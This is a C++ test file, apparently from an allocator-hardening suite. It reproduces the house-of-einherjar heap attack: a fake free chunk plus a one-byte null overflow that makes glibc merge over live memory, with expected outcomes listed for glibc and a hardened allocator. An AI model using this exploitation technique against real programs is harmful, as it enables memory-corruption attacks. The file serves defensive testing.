// attack: a string's terminating zero lands one byte behind its block: glibc believes that the
// attack: block before is free and merges over a live one (house of einherjar)
// fault: overflow
// cases: 24 40 104 136 264 504 1000
// glibc: * succeeds
// hakmem: fast * corrupt-header@reuse
// hakmem: * * overflow@at-free
#include "attack.h"

int main(int argc, char** argv) {
  const size_t size_bytes = attack::size_argument(argc, argv);
  constexpr size_t kFakeOffset = 16;
  char* before = attack::take(56);
  char* string = attack::take(size_bytes);
  char* merged = attack::take(0x4f8);
  attack::take(2000);
  // A fake free chunk in `before`, whose links lead back to itself.
  char* fake = before + kFakeOffset;
  const ptrdiff_t end = static_cast<ptrdiff_t>(attack::usable(string));
  const size_t fake_bytes = 56 + 8 - kFakeOffset + attack::chunk_bytes(size_bytes) - 16;
  attack::poke<size_t>(fake, 8, fake_bytes);
  attack::poke<char*>(fake, 16, fake);
  attack::poke<char*>(fake, 24, fake);
  if (!attack::against_hakmem()) attack::poke<size_t>(string, end - 8, fake_bytes);
  attack::begin_misuse();
  attack::damage_byte(string, end, 0);
  attack::end_misuse();
  if (!attack::against_hakmem()) {
    attack::give(merged);
    const size_t wide_bytes = fake_bytes + 0x4f8;
    const char* wide = attack::take(wide_bytes);
    attack::judge(attack::overlap(wide, wide_bytes, string, size_bytes),
                  "live memory was handed out");
  }
  attack::begin_free();
  attack::give(string);
  attack::end_free();
  attack::churn(size_bytes);
  attack::failed("live memory was handed out");
}
